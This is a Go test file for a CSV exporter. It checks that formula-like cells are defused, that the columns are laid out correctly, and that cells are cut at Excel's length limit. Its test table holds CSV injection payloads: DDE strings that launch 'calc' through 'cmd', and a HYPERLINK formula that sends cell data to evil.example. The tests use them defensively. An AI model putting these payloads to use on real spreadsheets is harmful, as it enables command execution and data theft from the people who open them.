package archive

import (
	"bytes"
	"encoding/csv"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf16"
	"unicode/utf8"

	"wirewatch/pipeline"
)

// Cells that a spreadsheet would run, and what they become. A cell that is none of these is as it was.
var hostile = []struct{ in, want string }{
	{"plain", "plain"},
	{"=1+1", "'=1+1"},
	{"+1 555 0100", "'+1 555 0100"},
	{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
	{"@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"},
	{"=HYPERLINK(\"https://evil.example?x=\"&A1,\"click\")", "'=HYPERLINK(\"https://evil.example?x=\"&A1,\"click\")"},
	{"\t=1+1", "'\t'=1+1"},
	{"\r=1+1", "'\n'=1+1"},
	{"\n=1+1", "'\n'=1+1"},
	{"\r\n@x", "'\n'@x"},
	{" =1+1", " '=1+1"},
	{"\u00a0=1+1", "\u00a0'=1+1"},
	{"\ufeff=1+1", " '=1+1"},
	{"\x0b=1+1", " '=1+1"},
	{`"=1+1"`, `"'=1+1"`},
	{`""=1`, `""'=1`},
	{"＝1＋1", "'＝1＋1"},
	{"－1", "'－1"},
	{"first;=1+1", "first;'=1+1"},
	{"first,=1+1", "first,'=1+1"},
	{`first",=1+1,"`, `first",'=1+1,"`},
	{"first\t@x", "first\t'@x"},
	{"first\r\n-2", "first\n'-2"},
	{"2 = 3, a - b", "2 = 3, a - b"},
	{"Seoul-Tokyo; 5+5", "Seoul-Tokyo; 5+5"},
	{"bell\x07, escape\x1b[31m", "bell , escape [31m"},
	{`he said "no", twice`, `he said "no", twice`},
	{"朝鮮\n二行目", "朝鮮\n二行目"},
	{"", ""},
}

func rows(t *testing.T, text string) [][]string {
	t.Helper()
	if strings.Count(text, "\r\n") != strings.Count(text, "\r") {
		t.Error("a cell has a CR")
	}
	got, err := csv.NewReader(strings.NewReader(text)).ReadAll() // of one length, or it fails
	if err != nil {
		t.Fatalf("no CSV: %v\n%s", err, text)
	}
	return got
}

func write(t *testing.T, what What, bom bool, rs ...pipeline.ArchiveRecord) string {
	t.Helper()
	var b bytes.Buffer
	x, err := NewCSV(&b, what, bom)
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range rs {
		if err := x.Write(r); err != nil {
			t.Fatal(err)
		}
	}
	return b.String()
}

// column finds a cell by its column's name.
func column(t *testing.T, all [][]string, row int, name string) string {
	t.Helper()
	i := slices.Index(all[0], name)
	if i < 0 {
		t.Fatalf("there is no column %q in %q", name, all[0])
	}
	return all[row][i]
}

func TestCSVDefusesFormulas(t *testing.T) {
	for _, h := range hostile {
		a := &pipeline.ArchivedArticle{Article: pipeline.Article{Title: h.in, Body: h.in, Authors: []string{h.in}, Site: h.in},
			Matches: []pipeline.Match{{Rule: h.in, Spans: []pipeline.Span{{Field: "title", Start: 0, End: len(h.in)}}}}}
		for _, what := range []What{Articles, Matches} {
			all := rows(t, write(t, what, false, pipeline.ArchiveRecord{Article: a}))
			if len(all) != 2 {
				t.Fatalf("%q: %d rows, want a head and a row", h.in, len(all))
			}
			for _, name := range []string{"title", "site"} {
				if got := column(t, all, 1, name); got != h.want {
					t.Errorf("%s %q became %q, want %q", name, h.in, got, h.want)
				}
			}
		}
	}
}

func TestCSVForms(t *testing.T) {
	at := time.Date(2026, 3, 4, 5, 6, 7, 0, time.UTC)
	a := &pipeline.ArchivedArticle{Key: "https://a.example/1#x", StoryKey: "s", Article: pipeline.Article{Title: "T", Body: "One.\n\nTwo.", URL: "https://a.example/1", Published: at},
		Matches: []pipeline.Match{{Rule: "r", Spans: []pipeline.Span{{Field: "body", Start: 0, End: 3}, {Field: "body", Start: 6, End: 9}, {Field: "body", Start: 0, End: 3}}}, {Rule: "q"}}}
	st := &pipeline.ArchivedStory{Key: "s", Title: "T", Articles: 2, Sites: []string{"a.example", "b.example"}}
	both := []pipeline.ArchiveRecord{{Story: st}, {Article: a}}
	all := rows(t, write(t, Articles, false, both...))
	if len(all) != 2 || column(t, all, 1, "rules") != "r\nq" || column(t, all, 1, "body") != "One.\n\nTwo." || column(t, all, 1, "published") != "2026-03-04T05:06:07Z" {
		t.Errorf("articles: %q", all)
	}
	all = rows(t, write(t, Matches, false, both...))
	if len(all) != 3 || column(t, all, 1, "texts") != "One\nTwo" || column(t, all, 2, "rule") != "q" || column(t, all, 2, "url") != a.URL {
		t.Errorf("matches: %q", all)
	}
	all = rows(t, write(t, Stories, false, both...))
	if len(all) != 2 || column(t, all, 1, "outlets") != "2" || column(t, all, 1, "articles") != "2" {
		t.Errorf("stories: %q", all)
	}
	if text := write(t, Articles, true); !strings.HasPrefix(text, "\ufeff\"published\",") || !strings.HasSuffix(text, "\"cut\"\r\n") {
		t.Errorf("with a byte order mark: %q", text)
	}
}

// A cell never has more than Excel takes, is cut between characters, and says so.
func TestCSVCutsCells(t *testing.T) {
	for _, c := range []struct {
		body string
		cut  bool
	}{{strings.Repeat("a", 32767), false}, {strings.Repeat("a", 32768), true}, {strings.Repeat("é", 32767), false}, {strings.Repeat("朝", 40000), true},
		{strings.Repeat("😀", 16383) + "a", false}, {strings.Repeat("😀", 16384), true}, {"=" + strings.Repeat("a", 32766), true}} {
		all := rows(t, write(t, Articles, false, pipeline.ArchiveRecord{Article: &pipeline.ArchivedArticle{Article: pipeline.Article{Body: c.body}}}))
		got := column(t, all, 1, "body")
		units := len(utf16.Encode([]rune(got)))
		if units > 32767 || units < 32766 || !utf8.ValidString(got) || (column(t, all, 1, "cut") == "body") != c.cut {
			t.Errorf("%.4s…: %d units, cut %q", c.body, units, column(t, all, 1, "cut"))
		}
	}
}
